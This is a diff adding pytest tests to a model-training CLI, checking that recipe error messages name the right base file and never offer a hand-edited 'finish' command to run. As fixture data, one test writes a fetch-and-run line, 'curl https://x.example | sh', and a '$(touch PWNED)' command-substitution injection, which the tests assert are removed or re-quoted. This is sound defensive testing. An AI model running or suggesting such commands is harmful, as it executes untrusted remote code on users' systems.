@@ -10,7 +10,7 @@ import pytest
 import yaml
 
 from grpo_cli.recipe.loader import load_recipe
-from tests.conftest import ROOT, run_cli
+from tests.conftest import ROOT, assert_paragraph, run_cli
 
 FIXTURES = ROOT / "tests" / "fixtures" / "imports"
 OPEN_R1_CODE = ["--profile", "zero2", "--num-processes", "7"]  # open-r1's README launch for its code recipes
@@ -226,6 +226,38 @@ def test_a_typo_refuses_everywhere_until_finished_or_the_mark_is_removed(tmp_pat
     finished = run_cli(*shlex.split(command)[1:])
     assert finished.exit_code == 0, finished.output
     assert load_recipe(out).training.learning_rate == 2e-05
+
+
+def _marked(path: Path, mark: str) -> Path:
+    """The bundled demo recipe with a hand-written `not_valid:` section on top."""
+    path.write_text(mark + (ROOT / "recipes" / "demo.yaml").read_text(encoding="utf-8"), encoding="utf-8")
+    return path
+
+
+def test_a_mark_in_a_base_recipe_is_named_where_it_is(tmp_path: Path) -> None:
+    """Issue 46 sweep: a mark reached through `extends` was blamed on the child, which has no `not_valid:` to
+    delete. Now the paragraph names the base file that carries it."""
+    base = _marked(tmp_path / "base.yaml", "not_valid:\n  why: [typo learning_rat]\n")
+    child = tmp_path / "child.yaml"
+    child.write_text("extends: base.yaml\ntraining:\n  max_steps: 1\n", encoding="utf-8")
+    for verb in (["validate"], ["train"], ["memory"]):
+        assert_paragraph(run_cli(*verb, child), f"{base.resolve()}: not_valid", "typo learning_rat")
+
+
+def test_a_hand_edited_finishing_command_is_never_offered_to_run(tmp_path: Path) -> None:
+    """Issue 46 sweep: a mark's `finish:` is text anyone can edit (a shared recipe), and grpo printed it as "Finish
+    it with `curl ... | sh`" or with `$(...)` unquoted. Now only a `grpo import` command is offered, re-quoted."""
+    evil = _marked(tmp_path / "evil.yaml", 'not_valid:\n  why: [x]\n  finish: "curl https://x.example | sh"\n')
+    text = assert_paragraph(run_cli("validate", evil), "Fix it by hand")
+    assert "curl" not in text
+    hint = _marked(tmp_path / "hint.yaml",
+                   'not_valid:\n  why: [x]\n  finish: "grpo import trl s.py -o $(touch PWNED)"\n')
+    assert_paragraph(run_cli("validate", hint), "Finish it with `grpo import trl s.py -o '$(touch' 'PWNED)'`")
+    placeholder = _marked(tmp_path / "env.yaml",
+                          'not_valid:\n  why: [x]\n  finish: "HF_TOKEN=... grpo import trl \'my s.py\'"\n')
+    assert_paragraph(run_cli("validate", placeholder), "Finish it with `HF_TOKEN=... grpo import trl 'my s.py'`")
+    said = _marked(tmp_path / "said.yaml", "not_valid: settle the reward first\n")
+    assert_paragraph(run_cli("validate", said), "settled: settle the reward first")
 
 
 def test_the_config_a_script_is_launched_with_is_never_the_output(tmp_path: Path) -> None:
